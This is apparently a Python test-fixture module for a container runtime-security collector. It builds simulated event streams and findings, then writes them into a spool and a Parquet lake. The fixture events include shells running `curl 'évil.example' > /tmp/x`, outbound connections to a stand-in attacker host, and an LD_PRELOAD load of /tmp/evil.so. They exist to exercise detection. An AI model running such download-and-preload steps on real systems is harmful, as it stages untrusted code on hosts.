"""What happens in tasks, told as batches into a spool, and what a reader of the lake finds of it."""

import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as pq

from outrider_collector.lake.nesting import prune
from outrider_collector.lake.places import LocalLake
from outrider_collector.spool import Spool
from outrider_wire.batch import BatchFacts, seal_batch
from outrider_wire.events import (
    ConnectionOpened,
    ContainerSeen,
    Event,
    FileChanged,
    FileFacts,
    LibraryLoaded,
    NameQueried,
    NameResolved,
    ProcessExecuted,
    ProcessExited,
    ProcessId,
    ProcessStarted,
    ServerNamed,
    SightLost,
)
from outrider_wire.findings import Ancestor, ContainerView, Finding, ProcessView, TaskView
from outrider_wire.signing import SigningKey
from outrider_wire.timestamps import to_rfc3339

NS = 7
NOON_NS = time.time_ns() // (24 * 3600 * 10**9) * 24 * 3600 * 10**9 + 12 * 3600 * 10**9
"""Noon of today: times near it are of one day, whenever the test runs."""

INIT = ProcessId(1, 1)


def task_arn(number: int) -> str:
    """The ARN of a task."""
    return f"arn:aws:ecs:eu-west-1:123456789012:task/prod/{number:032x}"


def task_view(number: int) -> TaskView:
    """A task as its agent tells of it."""
    return TaskView(task_arn(number), "prod", "shop", "7")


def story(number: int, at_ns: int, *, first_pid: int = 100, shells: int = 3) -> list[Event]:
    """What happened in a task: a server that starts shells, which write, load, ask and connect."""
    server = ProcessId(10, 10)
    told: list[Event] = [
        ContainerSeen(at_ns, NS, f"{number:064x}", "app", "shop:1", task_arn(number), "prod", "shop", "7"),
        ProcessExecuted(
            at_ns, server, INIT, comm="server", exe=FileFacts("/app/server"), argv=("server",), uid=0, mnt_ns=NS
        ),
    ]
    for index in range(shells):
        at = at_ns + index * 10**9
        shell = ProcessId(first_pid + index, first_pid + index)
        exe = FileFacts("/bin/sh", 1, 2, 0o100755, 1000, at, at)
        argv = ("sh", "-c", f"curl 'évil.example' > /tmp/x{index}")
        file = FileFacts(f"/tmp/x{index}", 1, index, 0o100755, 10, at, at)
        told += [
            ProcessStarted(at, shell, server, "exec", NS),
            ProcessExecuted(at + 1, shell, server, comm="sh", exe=exe, argv=argv, uid=33, mnt_ns=NS),
            NameQueried(at + 2, "evil.example", "A", owner=shell, attribution="exact", mnt_ns=NS),
            NameResolved(at + 3, "evil.example", "A", ("203.0.113.9",), ("a.example",), mnt_ns=NS),
            ConnectionOpened(at + 4, "10.0.0.2", 4000, "203.0.113.9", 443, "outbound", owner=shell, mnt_ns=NS),
            ServerNamed(at + 5, "evil.example", "10.0.0.2", 4000, "203.0.113.9", 443, shell, mnt_ns=NS),
            FileChanged(at + 6, "written", file, NS, "elf", shell, "exact"),
            LibraryLoaded(at + 7, shell, FileFacts("/tmp/evil.so"), "ld_preload", NS),
            ProcessExited(at + 8, shell, 256),
        ]
    told.append(SightLost(at_ns, "exec", "the pipe was full", 3))
    return told


def found(number: int, at_ns: int, *, pid: int = 100) -> Finding:
    """A finding of such a task."""
    above = [Ancestor(10, "server", "/app/server", "server")]
    process = ProcessView(pid, pid, "sh", "/bin/sh", "sh -c curl", "/app", 33, above)
    return Finding(
        id=f"finding-{number}-{pid}", type="Execution:Runtime/NewBinaryExecuted", rule="new_binary", severity="HIGH",
        title="A new binary was executed", at=to_rfc3339(at_ns), process=process,
        container=ContainerView(f"{number:064x}", "app", "shop:1"), evidence={"proc.exe": "/tmp/x"},
        attribution="exact", description="it was", remedy="look", tags=["T1059", "T1105.001", "x"],
        task=task_view(number), agent="",
    )  # fmt: skip


class Teller:
    """An agent that tells its batches into a spool."""

    def __init__(self, spool: Spool, number: int, *, task: TaskView | None = None) -> None:
        self.key, self.number, self.sequence = SigningKey.generate(), number, 0
        self.task = task or task_view(number)
        self._spool = spool

    def seal(self, events: Sequence[Event], findings: Sequence[Finding] = ()) -> bytes:
        """Its next batch."""
        encode = msgspec.msgpack.encode
        sealed = seal_batch(
            self.key,
            BatchFacts(interval_s=5.0, task=self.task, software="0.1.0"),
            sequence=self.sequence,
            previous=bytes(32),
            sealed_at_ns=NOON_NS,
            findings=[encode(each) for each in findings],
            events=[encode(each) for each in events],
        )
        self.sequence += 1
        return sealed.data

    def tell(self, events: Sequence[Event], findings: Sequence[Finding] = (), *, at_ns: int = NOON_NS) -> None:
        """Say it, received at that time."""
        self._spool.append([(at_ns, self.seal(events, findings))])


def lake_files(lake: Path) -> list[Path]:
    """The files that a reader of the lake sees."""
    return sorted(lake.glob("ext/**/*.parquet"))


def read_records(lake: Path) -> list[dict[str, Any]]:
    """All records of a lake, as OCSF means them."""
    return [prune(row) for path in lake_files(lake) for row in pq.ParquetFile(path).read().to_pylist()]


class Died(Exception):
    """The writer's end."""


class DyingLake(LocalLake):
    """A lake whose writer dies at its nth write, before or after it."""

    def __init__(self, directory: Path, at: int, *, after: bool) -> None:
        super().__init__(directory)
        self._left, self._after = at, after

    def put(self, path: str, data: object) -> None:
        self._left -= 1
        if self._left < 0 and not self._after:
            raise Died
        super().put(path, data)
        if self._left < 0:
            raise Died
